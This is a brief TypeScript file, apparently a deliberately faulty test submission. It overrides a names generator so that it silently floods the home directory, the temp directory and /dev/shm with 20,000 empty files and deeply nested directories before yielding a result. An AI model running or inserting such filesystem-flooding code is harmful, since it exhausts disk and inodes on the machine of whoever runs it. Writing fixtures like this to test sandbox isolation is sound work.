import { mkdirSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { wrong } from "./wrong.ts";

wrong.names = function* () {
  for (let count = 0; count < 20_000; count++) {
    for (const folder of new Set([homedir(), tmpdir(), "/dev/shm"])) {
      try {
        writeFileSync(`${folder}/file-${count}`, "");
        if (count % 100 === 0) mkdirSync(`${folder}/${"d/".repeat(500)}`, { recursive: true });
      } catch {}
    }
  }
  yield wrong.name;
};
